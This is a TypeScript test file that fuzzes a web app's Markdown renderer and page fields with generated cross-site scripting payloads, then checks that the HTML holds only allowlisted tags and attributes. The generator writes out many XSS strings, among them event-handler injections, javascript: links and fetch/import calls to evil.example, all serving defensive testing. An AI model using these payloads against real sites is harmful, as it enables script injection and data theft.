// Scripts of strangers through every field that the page prints: what is shown has no element, attribute or address that is not
// the page's own. The answers are read as a browser's parser reads them, without one: every tag of a page is one of ours.

import { expect, test } from 'vitest';
import { keepSetting, newId } from '../../src/db/sql.ts';
import { commit } from '../../src/memory/commit.ts';
import { putEntry } from '../../src/memory/entries.ts';
import { beginJob, endJob } from '../../src/memory/job-rows.ts';
import type { MemoryRow } from '../../src/memory/memories.ts';
import { enterSession } from '../../src/memory/session-rows.ts';
import { inlineMarkdown, markdown } from '../../src/page/markdown-html.ts';
import { put } from '../../src/queue/inbox.ts';
import { type Served, served } from '../server/served.ts';
import { SEED, sized } from '../support/depth.ts';
import { seeded } from '../support/random.ts';
import { tempDir } from '../support/temp.ts';
import { enter, OURS } from './enter.ts';
import { fillMemory } from './filled.ts';

const WAYS = sized({ quick: 40, deep: 800 });

/** How many pages are looked at, at most. */
const PAGES = sized({ quick: 40, deep: 700 });

/** Every tag that may stand in a page, with the attributes that it may have. */
const ELEMENTS = new Map(
  `a href class rel target aria-current aria-expanded | article class | blockquote class | body class |
  br | button class type id hidden aria-label | code | del class | dd class dir | details class id open | dialog id aria-labelledby | dl | dt |
  div class id role hidden dir aria-live | em | figcaption class | figure class |
  form method action class role id | g | h1 class | h2 class id | h3 | head | header class | html lang |
  input type name value id readonly dir placeholder autocomplete spellcheck required | kbd | label for class |
  li class id tabindex aria-hidden | link rel href | main id tabindex | mark | meta charset name content |
  nav class aria-label | ol class aria-label | option value selected | p class dir | path d fill | pre class dir tabindex | q class dir |
  rect class x y width height rx | script type src | select name | section class id aria-labelledby aria-label | small |
  span class dir title | strong class | summary class |
  svg class viewBox width height role aria-label aria-hidden preserveAspectRatio | table | tbody | td |
  text x y | textarea id name rows dir | th scope | thead | time datetime | title | tr | ul class`
    .split('|')
    .map((row) => row.trim().split(' '))
    .map(([tag = '', ...attributes]) => [tag, new Set(attributes)]),
);

/** What of a page is not the page's own, as its tags say. */
function strange(html: string): string[] {
  // What stands in a textarea or a title is text up to its end.
  const text = html.replace(/(<(textarea|title)[^>]*>)[\s\S]*?(?=<\/\2>)/g, '$1').replace('<!doctype html>', '');
  const found: string[] = [];
  for (const [all, name = '', rest = ''] of text.matchAll(/<([^\s>/]*)((?:[^>"']|"[^"]*"|'[^']*')*)>?/g)) {
    if (all.startsWith('</')) continue;
    const allowed = ELEMENTS.get(name);
    if (!allowed) found.push(all);
    for (const [, attribute = '', value = ''] of rest.matchAll(/([^\s"'=/]+)(?:="([^"]*)")?/g)) {
      if (!allowed?.has(attribute)) found.push(`${attribute} of ${all.slice(0, 200)}`);
      const leads = /^(?:href|action|src)$/.test(attribute) && !/^(?:\/(?!\/)|#|https?:\/\/|mailto:)/i.test(value);
      if (leads) found.push(all.slice(0, 200));
    }
    if (name === 'script' && rest !== ' type="module" src="/assets/page.js"') found.push(all);
  }
  return found;
}

/** A script in some way in which strangers would have it read as one, by the seed. */
function scriptsBySeed(count: number): string[] {
  const { pick, below } = seeded(SEED);
  const call = (n: number) =>
    pick([`alert(${n})`, `globalThis.hacked=${n}`, `fetch("//evil.example/${n}")`, `import("//evil.example")`]);
  const tag = () =>
    pick('script SCRIPT ScRiPt svg/onload iframe img math style template object base form a'.split(' '));
  const begin = () =>
    pick([
      '',
      '"',
      "'",
      '">',
      "'>",
      '`',
      '-->',
      ']]>',
      '</textarea>',
      '</title>',
      '</script>',
      '</style>',
      '\\',
      '&quot;',
      '\u2028',
      '&#34;>',
      '`">',
      '**',
      '[x](',
      '<!--',
    ]);
  const kinds: ((n: number) => string)[] = [
    (n) => `${begin()}<${tag()}>${call(n)}</${tag()}>`,
    (n) =>
      `${begin()}<${tag()} ${pick(['onload', 'onerror', 'onfocus', 'onclick', 'formaction', 'style', 'srcdoc', 'href'])}=${pick(['', '"', "'"])}${call(n)}${pick(['', '"', "'"])} autofocus>`,
    (n) =>
      `${begin()}[a](${pick(['javascript:', 'JaVaScRiPt:', 'java\\tscript:', 'data:text/html,', 'vbscript:', ' javascript:', '//evil.example/', 'https:javascript:', '\\x01javascript:'])}${call(n)})`,
    (n) => `${begin()}<${pick(['javascript', 'data', 'vbscript'])}:${call(n)}>`,
    (n) => `https://evil.example/"onmouseover="${call(n)}`,
    (n) => `<https://evil.example/'"><img src=x onerror=${call(n)}>>`,
    (n) => `[<img src=x onerror=${call(n)}>](https://evil.example/?"onclick="${call(n)})`,
    (n) => `\`\`\`html"><script>${call(n)}</script>`,
    (n) => `\`<b onclick=${call(n)}>\` **<i onclick=${call(n)}>** ~~</del><script>${call(n)}~~`,
    (n) => `> - 1. # <${tag()} x="${call(n)}">`,
    (n) =>
      `${begin()}${'<'.repeat(1 + below(5))}${tag()}${pick([' ', '/', '\t', '\f', '\u00a0'])}${pick(['onload', 'ONERROR'])}=${call(n)}//`,
    (n) => `mailto:x@y.z"onclick="${call(n)} [m](mailto:a@b.c"onclick="${call(n)})`,
  ];
  return Array.from({ length: count }, (_, n) => (kinds[n % kinds.length] as (n: number) => string)(n));
}

const scripts = scriptsBySeed(WAYS);

test(`none of ${WAYS} scripts is live in Markdown, as a line or as a text`, () => {
  for (const script of scripts)
    for (const text of [
      script,
      `- a\n  ${script}\n\n> ${script}\n\n# ${script}\n`,
      `**${script}** _${script}_ [${script}](https://a.b)`,
    ])
      for (const shown of [markdown(text), inlineMarkdown(text)])
        expect({ text, strange: strange(String(shown)) }).toEqual({ text, strange: [] });
});

test(`none of ${WAYS} scripts is live in any field that the page prints`, async () => {
  const world = await served();
  const { app, store: memory } = world;
  const at = (n: number) => (scripts[n % scripts.length] as string).replace(/[\r\n]+/g, ' ');
  const name = (n: number) =>
    `${n} ${at(n)
      .replace(/[/\\\0:\p{Cc}]/gu, '∕')
      .slice(0, 60)
      .trim()}`.replace(/\.+$/, '');
  const count = WAYS / 4;
  await fillMemory(world, {
    ...{
      topics: count,
      lines: 4,
      sessions: sized({ quick: 15, deep: 100 }),
      nights: 3,
      proposals: sized({ quick: 8, deep: 60 }),
      transcripts: tempDir(),
    },
    says: (kind, n) =>
      at(n + { line: 0, entry: 1, quote: 2, description: 3, reason: 5, answer: 7 }[kind]).slice(0, 900),
    topic: name,
    session: (n) => at(n * 3).slice(0, 200),
    now: app.clock.now(),
  });
  await hostileRows(world, { at, memory });
  const { cookie, token } = await enter(world);
  const headers = { ...OURS, cookie };
  const seen = new Map<string, string>();
  const queue = [
    '/',
    '/memory',
    '/next',
    '/changes',
    '/cost',
    `/next?memory=${memory.id}&prompt=${encodeURIComponent(at(5))}&agent=${encodeURIComponent(at(6))}&dir=${encodeURIComponent(at(7))}`,
    `/changes?memory=${memory.id}`,
    `/memory/${memory.id}/archive`,
  ];
  for (let n = 0; n < 20; n += 1)
    queue.push(
      `/search?q=${encodeURIComponent(at(n * 17))}`,
      `/memory/${encodeURIComponent(at(n))}`,
      `/changes/${encodeURIComponent(at(n))}`,
      `/changes?before=${encodeURIComponent(at(n))}`,
      `/next?prompt=${encodeURIComponent(at(n))}`,
    );
  const perKind = new Map<string, number>();
  for (let path = queue.shift(); path !== undefined && seen.size < PAGES; path = queue.shift()) {
    if (seen.has(path)) continue;
    const answer = await fetch(`${world.url}${path}`, { headers, redirect: 'manual' });
    const html = await answer.text();
    seen.set(path, html);
    expect({ path, strange: strange(html) }).toEqual({ path, strange: [] });
    expect({ path, status: answer.status }).not.toMatchObject({ status: 500 });
    for (const [, href = ''] of html.matchAll(/<a [^>]*href="(\/[^"#]*)/g)) {
      const plain = href.replaceAll('&amp;', '&').replaceAll('&#39;', "'").replaceAll('&quot;', '"');
      // So many of a kind, in the order in which they stand.
      const kind = plain
        .replace(/\d[^/?]*|memory_\w+|job_\w+|e_\w+/g, '')
        .slice(0, 40)
        .replace(/%.*/, '');
      const known = perKind.get(kind) ?? 0;
      if (known >= 60 || seen.has(plain)) continue;
      perKind.set(kind, known + 1);
      queue.push(plain);
    }
  }
  // What a form brings is shown where it is refused, too.
  const path = `${name(0)}.md`;
  for (const [n, action] of ['edit', 'forget', 'set', 'pause', 'restore', 'review', 'undo'].entries()) {
    const [text, said] = [at(n + 7), at(n + 8)];
    const fields = { memory: memory.id, path, line: text, index: '0', shown: said, text, description: said };
    const more = { target: text, said, name: 'model', value: said, project: text, ids: text, id: text, job: text };
    const answer = await fetch(`${world.url}/do/${action}`, {
      method: 'POST',
      headers: { ...headers, origin: world.url },
      body: new URLSearchParams({ token, to: '/cost', ...fields, ...more, word: 'accept' }),
    });
    expect({ action, strange: strange(await answer.text()) }).toEqual({ action, strange: [] });
    expect({ action, status: answer.status }).toEqual({ action, status: action.startsWith('edit') ? 409 : 200 });
  }
  const all = [...seen.values()].join('\n');
  const told = scripts.filter((_, n) => all.includes(escaped(at(n).slice(0, 12))));
  expect(told.length).toBeGreaterThan(WAYS * 0.9);
});

const escaped = (text: string) =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;');

/** What no filled memory has: work that failed or waits, a job that failed, a model, a place and a memory of such a name. */
async function hostileRows({ app }: Served, { at, memory }: { at(n: number): string; memory: MemoryRow }) {
  const now = app.clock.now();
  await app.db.write(async (db) => {
    for (let n = 0; n < 40; n += 1) {
      await put(db, { kind: 'extract', key: at(n), memory: memory.id, payload: {}, notBefore: now }, now);
      await db.run(
        "update inbox set error = ?, code = 'settings', state = ? where key = ?",
        at(n + 9),
        n % 2 ? 'failed' : 'waiting',
        at(n),
      );
      const job = await beginJob(db, { kind: 'dream', memory: memory.id, startedBy: 'hook', at: now.toISOString() });
      const output = {
        operations: [],
        proposals: [],
        refused: [at(n)],
        left: [{ entry: at(n), reason: at(n + 1) }],
        index: null,
      };
      await endJob(db, job, {
        outcome: 'failed',
        error: { code: 'model', message: at(n + 2) } as never,
        output,
        progress: 1,
        at: now.toISOString(),
      });
      await db.run(
        `insert into call (id, day, scope, job, model, at, reserved_tokens, reserved_usd, settled_at, input, cached, written, output, micro_usd)
       values (?, ?, '', ?, ?, ?, 10, 10, ?, 5, 0, 0, 5, 10)`,
        ...[newId('call'), now.toISOString().slice(0, 10), job, at(n + 4), now.toISOString(), now.toISOString()],
      );
    }
    const pauses = [at(2), at(3)].map((project) => ({ project, until: null }));
    await keepSetting(db, 'pauses', JSON.stringify(pauses));
    for (let n = 0; n < 10; n += 1)
      await db.run(
        "insert into memory (id, scope, name, created_at, updated_at) values (?, 'store', ?, ?, ?)",
        ...[newId('memstore'), at(n * 11), now.toISOString(), now.toISOString()],
      );
  });
  const by = { job: newId('job'), actor: { kind: 'user', id: null } } as const;
  // What holds nothing is shown as such, what holds a line among the others.
  const stores = await app.db.all<{ id: string }>("select id from memory where scope = 'store' order by id limit 5");
  for (const [n, { id }] of stores.entries())
    await app.files(await app.memories.of(id)).write(by, { path: 'a.md', text: `- ${at(n)}\n` });
  await commit(app.memories, { memory: memory.id, paths: [] }, by, async (sql) => ({
    files: [],
    async rows(change) {
      const session = await enterSession(
        sql,
        { memory: memory.id, machine: app.machine, at: now.toISOString() },
        {
          ...{
            id: at(3),
            path: `/${at(4)}`,
            format: 'claude-code',
            cwd: `/home/kim/${at(5)}`,
            sizeBytes: 0,
            modifiedAt: now.toISOString(),
          },
        },
      );
      for (let n = 0; n < 20; n += 1) {
        const isNew = n % 2 === 0;
        await putEntry(change, {
          ...{
            memory: memory.id,
            id: `e_${String(n).padStart(12, '0')}`,
            session: session.id,
            turn: at(n),
            at: now.toISOString(),
          },
          ...{
            day: '2026-11-20',
            type: 'project',
            text: at(n),
            strength: 'stated',
            by: at(n + 3) as never,
            prompt: at(n),
          },
          ...{
            evidence: [{ message: at(n), quote: at(n + 6), by: 'human' }],
            job: by.job,
            state: isNew ? 'new' : 'dropped',
            reason: isNew ? null : at(n + 1),
            changes: at(n + 2),
          },
        });
      }
    },
  }));
}
